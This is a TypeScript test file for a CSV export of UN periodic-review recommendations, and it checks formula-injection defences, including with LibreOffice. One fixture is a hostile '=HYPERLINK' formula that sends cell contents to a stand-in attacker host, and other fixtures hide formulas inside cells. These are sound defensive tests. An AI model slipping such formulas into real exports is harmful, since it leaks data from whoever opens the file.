import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Note } from '@/utils/model';
import { CSV_COLUMNS, buildCsv, neutralizeFormula } from './csv';
import { INVISIBLE, expectGolden, loadExample, sessionPageRecords, withInvisibleFormatting } from './export.test-support';

const example = loadExample();
const CROSSREFS: Record<string, number> = { [example.recommendations[0]!.id]: 2 };
const csv = buildCsv(example, { crossrefCount: (id) => CROSSREFS[id] ?? 0 });

function readBack(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('buildCsv', () => {
  it('gives each recommendation of a page of several statements its own statement’s state under review and date', () => {
    const rows = readBack(buildCsv(sessionPageRecords()));
    expect(rows.map((r) => [r['Row type'], r['State under review'], r['State under review code'], r['Statement date'], r.Recommendation])).toEqual([
      ['recommendation', 'Bahrain', 'BHR', '2022-11-07', 'Recommendation 1 to Bahrain.'],
      ['recommendation', 'Ecuador', 'ECU', '2022-11-07', 'Recommendation 2 to Ecuador.'],
      ['recommendation', 'Tunisia', 'TUN', '2022-11-08', 'Recommendation 3 to Tunisia.'],
      ['page note', '', '', '', ''],
    ]);
    expect(new Set(rows.map((r) => r['Page URL']))).toEqual(new Set(['https://www.example.gov.au/upr41']));
  });

  it('matches the golden file', () => {
    expectGolden('backup.csv', csv);
  });

  it('is UTF-8 with a BOM, CRLF between rows, every column named in English', () => {
    expect(csv.startsWith('\uFEFFRow type,State under review,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '""');
    expect(outsideQuotes).not.toMatch(/[^\r]\n/);
    expect(Papa.parse<string[]>(csv.slice(1)).data[0]).toEqual([...CSV_COLUMNS]);
  });

  it('reads back with one row per recommendation, then one per page-level note', () => {
    const rows = readBack(csv);
    const recRows = rows.filter((r) => r['Row type'] === 'recommendation');
    expect(recRows.map((r) => r['Recommendation ID']).sort()).toEqual(example.recommendations.map((r) => r.id).sort());
    expect(rows.filter((r) => r['Row type'] === 'page note')).toHaveLength(1);
    const first = recRows.find((r) => r['Recommendation ID'] === example.recommendations[0]!.id)!;
    expect(first).toMatchObject({
      'State under review': 'Kazakhstan',
      'Recommending state': 'Canada',
      Session: '34',
      'Action category': '5',
      'Action category name': 'Specific action',
      'Cross-references': '2',
      Tags: 'freedom of expression; UPR 48',
      'Note status': 'follow-up',
    });
    const french = recRows.find((r) => r.Language === 'fr' && r.Notes !== '')!;
    expect(french.Notes).toContain('À vérifier avant l’EPU 48 : « abolition en droit »');
    expect(french.Themes).toBe('Death penalty; International instruments');
    // Multi-line notes survive quoting.
    expect(recRows.some((r) => r.Notes === 'Supported.\nCheck the mid-term report for the new registration rules (2021).')).toBe(true);
  });

  it('leaves deleted notes out', () => {
    const deleted = example.notes.find((n) => n.deletedAt !== null)!;
    expect(csv).not.toContain(deleted.body);
  });

  it('neutralises every cell a spreadsheet would read as a formula', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', ''].map(neutralizeFormula)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'plain',
      '',
    ]);
    expect(['a;=1;b', 'a,+1', 'a\t-1', 'a\n@x', 'a\r\n=1', 'a|=1', 'say "=1"', '2024-03-21', 'a; =1', 'x = 1'].map(neutralizeFormula)).toEqual([
      "a;'=1;b",
      "a,'+1",
      "a\t'-1",
      "a\n'@x",
      "a\r\n'=1",
      "a|'=1",
      `say "'=1"`,
      '2024-03-21',
      'a; =1',
      'x = 1',
    ]);
    const hostile: Note = { ...example.notes[0]!, body: '=HYPERLINK("http://evil.example/?"&A1,"click")', tags: ['@admin', '-x'] };
    const rows = readBack(buildCsv({ ...example, notes: [hostile] }));
    const row = rows.find((r) => r['Recommendation ID'] === hostile.recommendationId)!;
    expect(row.Notes).toBe(`'${hostile.body}`);
    expect(row.Tags).toBe("'@admin; -x");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves the cross-reference column empty when no count is given', () => {
    expect(readBack(buildCsv(example)).every((r) => r['Cross-references'] === '')).toBe(true);
  });
});

// LibreOffice must be installed (Debian: libreoffice-calc; .ci/run installs it): these tests fail, not skip, without it.
const SEPARATORS = { comma: 44, semicolon: 59, tab: 9 } as const;

/**
 * The CSV as LibreOffice Calc shows it when opened with `separator` (UTF-8, double quote, formulas evaluated: the
 * import dialog's defaults), read back from Calc's own CSV of the sheet.
 */
function openInCalc(text: string, separator: number): string[][] {
  let version = '';
  try {
    version = execFileSync('soffice', ['--version'], { encoding: 'utf8' });
  } catch {
    throw new Error('soffice (LibreOffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc');
  }
  expect(version).toMatch(/LibreOffice/);
  const dir = mkdtempSync(join(tmpdir(), 'upr-csv-'));
  try {
    writeFileSync(join(dir, 'in.csv'), text);
    const importOptions = `CSV:${separator},34,76,1,,1033,false,false,false,false,false,-1,true`;
    execFileSync(
      'soffice',
      [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=${importOptions}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', join(dir, 'out'), join(dir, 'in.csv')],
      { stdio: 'pipe', timeout: 110_000 },
    );
    return Papa.parse<string[]>(readFileSync(join(dir, 'out', 'in.csv'), 'utf8'), { skipEmptyLines: true }).data;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('LibreOffice', () => {
  it('opens the CSV with every cell as written and no formula evaluated', { timeout: 120_000 }, () => {
    // A second note that a spreadsheet would compute if it were not neutralised.
    const input = buildCsv({ ...example, notes: example.notes.map((n, i) => (i === 1 ? { ...n, body: '=1+1' } : n)) });
    const opened = openInCalc(input, SEPARATORS.comma);
    const written = Papa.parse<string[]>(input.slice(1), { skipEmptyLines: true }).data;
    expect(opened).toEqual(written);
    expect(opened.flat()).toContain("'=1+1");
    expect(opened.flat().join()).toContain('À vérifier avant l’EPU 48');
  });

  // Formulas hidden after each place a locale may split a cell, in a recommendation, a note and a tag: each one,
  // if computed, shows 1337 or an error.
  const HIDDEN = ['a;=1336+1;b', 'a,=1336+1,b', 'a\t+1336+1\tb', 'a\n=1336+1', 'a\r\n-1338+2675', 'a|=1336+1', 'say "=1336+1"', '=1336+1'];
  const [first, ...others] = example.recommendations;
  const hostile = {
    ...example,
    recommendations: [{ ...first!, text: `Ratify ${HIDDEN.join(' ')}` }, ...others],
    notes: example.notes.map((n) => (n.recommendationId === first!.id ? { ...n, body: HIDDEN.join('\n'), tags: HIDDEN } : n)),
  };
  it.each(Object.entries(SEPARATORS))('computes no formula hidden inside a cell when opened with %s as separator', { timeout: 120_000 }, (_name, separator) => {
    const cells = openInCalc(buildCsv(hostile), separator).flat();
    expect(cells.length).toBeGreaterThan(CSV_COLUMNS.length);
    expect(cells.filter((cell) => /^(1337|-?1335|Err:\d+|#[A-Z]+[?!]?)$/.test(cell.trim()))).toEqual([]);
  });
});
